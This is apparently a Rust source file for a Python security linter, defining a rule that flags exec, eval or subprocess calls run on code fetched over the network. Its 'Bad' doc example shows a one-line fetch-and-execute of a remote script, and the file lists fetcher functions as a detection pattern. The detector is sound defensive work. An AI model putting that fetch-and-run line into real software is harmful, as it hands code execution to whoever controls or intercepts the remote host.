use pyward_model::{Confidence, Severity};
use pyward_python::views::Call;

use crate::declare::rule;
use crate::{Code, Cx, Hit, Look, Names, Subject};

rule! {
    /// `exec` or `eval` runs what a request brings.
    ///
    /// ## Why
    /// Whoever holds the server, or stands on the way to it, runs what they like.
    ///
    /// ## Bad
    /// ```bad app.py
    /// import requests
    ///
    /// exec(requests.get("https://example.org/x.py").text)
    /// ```
    ///
    /// ## Good
    /// ```good app.py
    /// import plugins
    ///
    /// plugins.run()
    /// ```
    ///
    /// ## References
    /// - [MITRE ATT&CK: ingress tool transfer](https://attack.mitre.org/techniques/T1105/)
    /// - [CWE-94: code injection](https://cwe.mitre.org/data/definitions/94.html)
    /// - [CWE-494: download of code without integrity check](https://cwe.mitre.org/data/definitions/494.html)
    pub(crate) static DOWNLOADED_CODE = {
        name: "downloaded-code",
        family: Code,
        summary: "code that is downloaded and run",
        severity: Some(Severity::High),
        confidence: High,
        cwes: [94, 494],
        aliases: [],
        subject: Subject::Code(Code::own(&[Look::Call(Names::Whole(&["exec", "eval", "os.system", "subprocess.run", "subprocess.call", "subprocess.Popen"]), find)]).supersedes(&["B102", "B307", "B605"])),
    };
}

const FETCHERS: &[&str] = &[
    "urllib.request.urlopen",
    "requests.get",
    "requests.post",
    "httpx.get",
    "httpx.post",
    "urllib2.urlopen",
];

fn find<'a>(cx: &Cx<'a>, call: Call<'a>) -> Option<Hit> {
    let code = call.positional(0)?;
    let fetcher = cx
        .origins(code)
        .into_iter()
        .flat_map(|origin| std::iter::once(origin).chain(origin.descendants().take(200)))
        .find_map(|node| {
            let made = match Call::of(node) {
                Some(inner) => cx.qualified(inner.func()),
                None => node.name_id().and_then(|_| cx.maker(node)),
            };
            made.filter(|made| FETCHERS.contains(&made.as_str()))
        })?;
    let message = format!("{} runs what {fetcher} brings", cx.name());
    Some(Hit::new(Severity::High, Confidence::High, message))
}
